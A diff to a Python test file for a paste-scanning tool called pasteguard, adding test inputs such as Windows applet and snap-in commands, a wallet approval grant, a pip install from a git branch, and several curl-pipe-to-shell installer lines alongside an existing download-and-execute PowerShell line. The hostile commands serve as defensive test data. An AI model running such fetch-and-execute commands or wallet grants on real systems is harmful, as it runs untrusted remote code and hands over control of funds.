@@ -1,6 +1,8 @@
 """Hostile batches against the reading a batch keeps for a repeated text (scan.LastReading):
 texts whose verdict turns on the context (a sign-in redirect, Office documents in the Run box,
-an installer, device codes, NULs, bidi controls and lone surrogates), repeated with every
+an installer, device codes, NULs, bidi controls and lone surrogates; applets, snap-ins,
+installers on a port of their own, wallet grants, a registry's package page and pages whose
+address runs words together in capitals), repeated with every
 source and target in any order, between lines that are garbage, invalid JSON, objects without
 a text and a MiB long. Every answer is the one a fresh reading of its text in its own context
 gives, in a worker (in-process) and through `pasteguard scan --jsonl` with its pool."""
@@ -35,6 +37,14 @@ TEXTS = [
     "lone \ud800 surrogate iwr https://cdn.stage-obf.test/a | iex",
     "",
     "git status",
+    # this session's readings: applets, snap-ins, installer ports, wallet grants, package pins
+    "mmsys.cpl ,1",
+    "eventvwr.msc /c:Application",
+    "curl -sfL https://get.k3s.io:8443/ | sh -",
+    "curl -sfL https://get.k3s.io:0443/ | sh -",
+    "contract.setApprovalForAll('0x5555000000000000000000000000000000000042', true)",
+    "pip install git+https://github.com/ionelmc/python-lazy-object-proxy.git@fix-typo",
+    "curl -fsSL https://raw.githubusercontent.com/acme-test/widget/main/install.sh | sh",
 ]
 SOURCES = [
     None,
@@ -43,6 +53,9 @@ SOURCES = [
     "Notepad",
     "",
     "https://[fe80::1%25eth0]:99999/",
+    "https://pypi.org/project/lazy-object-proxy/",
+    "https://cubecoders.test/AMPInstall",
+    "https://realtek-wifi-drivers.test/download",
 ]
 TARGETS = [t.name.lower() for t in PasteTarget]
 GARBAGE = [
